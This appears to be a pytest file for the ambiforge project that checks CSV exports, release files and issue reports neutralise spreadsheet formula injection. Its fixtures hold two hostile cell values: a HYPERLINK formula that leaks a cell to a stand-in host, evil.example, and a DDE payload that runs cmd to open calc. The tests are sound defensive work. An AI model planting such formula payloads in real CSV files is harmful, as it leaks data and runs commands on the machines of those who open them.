"""Formula injection in every CSV written (issue 30): AmbiK exports and a release's CSV files neutralise
formula cells unless ``raw_cells``; import reads them back; ``verify`` accepts both; issues.csv always."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

import ambiforge
from ambiforge.ambik.csv_io import formula_cells, read_ambik_csv, write_ambik_csv
from ambiforge.cli.main import main
from ambiforge.models import Item
from ambiforge.releases.verify import verify_release
from ambiforge.releases.writer import release
from ambiforge.validation.report import issues_csv
from tests.unit.release import gz
from tests.unit.release.test_release import make_items, options, write_run

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Which one?")'
DDE = "+cmd|' /C calc'!A0"


def hostile(items: list[Item]) -> list[Item]:
    """The first item asks a formula and answers with a DDE call; the second keeps an AmbiK "-metal"."""
    first = items[0].model_copy(update={"question": LINK, "answer": DDE})
    second = items[1].model_copy(update={"user_intent": ["-metal"]})
    return [first, second, *items[2:]]


@pytest.fixture
def items(catalog) -> list[Item]:  # type: ignore[no-untyped-def]
    return hostile(make_items(catalog, 7, 12, "run-f"))


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_an_export_neutralises_and_reads_back(items: list[Item], tmp_path: Path, catalog) -> None:  # type: ignore[no-untyped-def]
    path = write_ambik_csv(items, tmp_path / "out.csv")
    rows = cells(path)
    header = rows[0]
    first, second = dict(zip(header, rows[1], strict=True)), dict(zip(header, rows[2], strict=True))
    assert first["question"] == "'" + LINK and first["answer"] == "'" + DDE
    assert second["user_intent"] == "-metal"  # AmbiK's own cells stay readable
    assert formula_cells(path) == (0, [])
    back = read_ambik_csv(path, catalog)
    assert back[0].question == LINK and back[0].answer == DDE and back[1].user_intent == ["-metal"]
    again = write_ambik_csv(back, tmp_path / "again.csv")
    assert again.read_bytes() == path.read_bytes()


def test_raw_cells_are_byte_exact(items: list[Item], tmp_path: Path, catalog) -> None:  # type: ignore[no-untyped-def]
    path = write_ambik_csv(items, tmp_path / "raw.csv", raw_cells=True)
    first = dict(zip(cells(path)[0], cells(path)[1], strict=True))
    assert first["question"] == LINK
    count, where = formula_cells(path)
    assert count == 2 and where[0] == "row 1, column 'question'"
    back = read_ambik_csv(path, catalog, raw_cells=True)
    assert write_ambik_csv(back, tmp_path / "again.csv", raw_cells=True).read_bytes() == path.read_bytes()


@pytest.mark.parametrize("raw_cells", [False, True])
def test_a_release_with_formula_cells_verifies(items: list[Item], tmp_path: Path, raw_cells: bool) -> None:
    """The release's AmbiK CSV export escapes formula cells unless ``raw_cells``; a release written before the
    CSV became an export verifies with either form of its CSV files."""
    write_run(tmp_path / "raw", "run-f", items)
    folder = release(options(tmp_path, "1.0.0", ["run-f"], calibration_size=2, target_mix=None))
    assert verify_release(folder)["rows"] == len(items)
    exported = tmp_path / "ambik.csv"
    assert ambiforge.export_ambik(folder / "data.parquet", exported, raw_cells=raw_cells) == len(items)
    assert ("'" + LINK.replace('"', '""') in exported.read_text(encoding="utf-8")) is not raw_cells
    gz.to_legacy(folder, raw_cells=raw_cells)
    split_text = "".join(p.read_text(encoding="utf-8") for p in (folder / "splits").glob("*.csv"))
    assert ('"' + LINK.replace('"', '""') in split_text) is raw_cells
    assert verify_release(folder)["rows"] == len(items)


def test_issues_csv_always_neutralises() -> None:
    text = issues_csv([{"id": "x", "rule": "r", "severity": "error", "field": "question", "message": LINK}])
    row = list(csv.reader(text.splitlines()))[1]
    assert "'" + LINK in row


def test_validate_warns_about_formula_cells(items: list[Item], tmp_path: Path, monkeypatch, capsys) -> None:  # type: ignore[no-untyped-def]
    path = write_ambik_csv(items, tmp_path / "raw.csv", raw_cells=True)
    monkeypatch.chdir(tmp_path)
    main(["validate", str(path), "--out", str(tmp_path / "v"), "--no-mix"])
    err = " ".join(capsys.readouterr().err.split())
    assert "warning: 2 cells of" in err and "row 1, column 'question'" in err
